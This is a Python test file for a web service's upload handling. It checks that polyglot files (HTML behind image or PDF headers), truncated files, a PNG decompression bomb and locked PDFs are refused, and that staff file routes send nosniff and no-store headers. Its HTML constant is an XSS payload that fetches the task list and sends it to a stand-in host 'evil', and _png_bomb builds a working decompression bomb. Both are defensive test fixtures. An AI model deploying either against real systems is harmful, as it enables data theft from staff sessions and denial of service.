"""Uploads are parsed whole, and the files staff open are never sniffed or cached (issue 17 item 13).

The attack: a file that starts with a JPEG's (or PNG's, or PDF's) first bytes and goes on as a
web page passed the first-bytes check and sat among the materials an approver opens; the task's
file routes sent it without ``nosniff``, so a browser could render it as HTML.
"""

from __future__ import annotations

import io
import struct
import zlib

from pypdf import PdfWriter

from api.applications import service
from tests.applications.helpers import add_page, files_in, registration_draft, stored_keys
from tests.approvals.helpers import task_of
from tests.complaints.helpers import API, citizen
from tests.factories import applicant, staff
from tests.samples import JPG, PDF, PNG

HTML = b"<html><body><script>fetch('/api/v1/tasks').then(r=>r.text()).then(t=>new Image().src='//evil/?'+t)"\
       b"</script></body></html>"
TAXI_FORM = {"applicantName": "张三", "idNumber": "11010519491231002X", "mobile": "13812345678",
             "firstLicenceDate": "2015-03-01", "deliveryAddress": "温州市鹿城区车站大道1号"}


def _png_bomb(side: int = 7_200) -> bytes:
    """A greyscale PNG of side x side pixels (51.8 million) in about 50 KB."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = zlib.compress(b"\x00" * ((side + 1) * side))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def _locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("only-i-know")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _refused(res, status: int, code: str) -> dict:
    assert res.status_code == status, res.text
    body = res.json()
    assert body["code"] == code and body["title"] and all(ord(c) < 128 for c in code)
    assert any("\u4e00" <= c <= "\u9fff" for c in body["title"]), body  # a Chinese message for people
    return body


async def test_files_that_only_start_like_a_picture_or_a_pdf_are_refused_and_leave_nothing(client, db, settings):
    me = await applicant(client, "polyglot")
    app_id = await registration_draft(client, me["headers"])
    before = files_in(settings)
    hostile = {
        "jpeg-header-then-html.jpg": b"\xff\xd8\xff\xe0" + HTML,
        "png-header-then-html.png": b"\x89PNG\r\n\x1a\n" + HTML,
        "pdf-header-then-html.pdf": b"%PDF-1.7\n" + HTML,
        "half-a-photo.jpg": JPG[: len(JPG) // 2],
        "half-a-png.png": PNG[:-30],
        "half-a-pdf.pdf": PDF[: len(PDF) // 2],
    }
    for name, content in hostile.items():
        body = _refused(await add_page(client, me["headers"], app_id, "labour_contract", content, name),
                        422, "file_damaged")
        assert body.get("field") == "file", name
    # the single-file route checks the same way
    res = await client.put(f"{API}/applications/{app_id}/materials/labour_contract", headers=me["headers"],
                           files={"file": ("x.jpg", b"\xff\xd8\xff\xe0" + HTML, "image/jpeg")})
    _refused(res, 422, "file_damaged")
    # nothing half written: no page row, no stored file, nothing left in the incoming folder
    assert await stored_keys(db, app_id) == set()
    assert files_in(settings) == before
    # real files still go in
    for content in (JPG, PNG, PDF):
        assert (await add_page(client, me["headers"], app_id, "labour_contract", content)).status_code == 201


async def test_a_decompression_bomb_and_a_password_locked_pdf_are_refused_with_their_own_codes(client, db, settings):
    me = await applicant(client, "bomber")
    app_id = await registration_draft(client, me["headers"])
    bomb = _png_bomb()
    assert len(bomb) < 200_000  # small on the wire: the size limit does not catch it
    body = _refused(await add_page(client, me["headers"], app_id, "labour_contract", bomb, "bomb.png"),
                    422, "image_too_many_pixels")
    assert body["maxPixels"] == 50_000_000
    _refused(await add_page(client, me["headers"], app_id, "labour_contract", _locked_pdf(), "locked.pdf"),
             422, "pdf_password_protected")
    assert await stored_keys(db, app_id) == set()


async def test_a_complaint_attachment_that_is_html_behind_a_png_header_is_refused(client):
    me = await citizen(client, "polyglot-complainer")
    res = await client.post(f"{API}/complaints/attachments", headers=me["headers"],
                            files={"file": ("scene.png", b"\x89PNG\r\n\x1a\n" + HTML, "image/png")})
    _refused(res, 422, "file_damaged")
    ok = await client.post(f"{API}/complaints/attachments", headers=me["headers"],
                           files={"file": ("scene.png", PNG, "image/png")})
    assert ok.status_code == 201, ok.text


async def test_the_files_an_approver_opens_are_never_sniffed_or_cached(client, db):
    owner = await applicant(client, "owner-nosniff")
    approver = await staff(client, db, phone="13900006201", roles=["approver"], steps=["accept"], name="钱受理")
    created = await client.post(f"{API}/applications", headers=owner["headers"], json={
        "serviceCode": "taxi-driver-cert", "answers": {"household": "local"}, "form": TAXI_FORM})
    app_id = created.json()["id"]
    up = await client.put(f"{API}/applications/{app_id}/materials/photo", headers=owner["headers"],
                          files={"file": ("me.jpg", JPG, "image/jpeg")})
    assert up.status_code == 200, up.text
    async with db.transaction():
        await service.transition(db, app_id, "submitted", actor_id=owner["user"]["id"])
    assert (await client.get(f"{API}/tasks", headers=approver["headers"])).status_code == 200
    task_id = (await task_of(db, app_id))["id"]
    for path in (f"{API}/tasks/{task_id}/materials/photo", f"{API}/tasks/{task_id}/materials/photo/pages/1",
                 f"{API}/applications/{app_id}/materials/photo", f"{API}/applications/{app_id}/materials/photo/pages/1"):
        res = await client.get(path, headers=approver["headers"])
        assert res.status_code == 200 and res.content == JPG, (path, res.status_code)
        assert res.headers["content-type"] == "image/jpeg", path
        assert res.headers["x-content-type-options"] == "nosniff", path
        assert "no-store" in res.headers["cache-control"], path
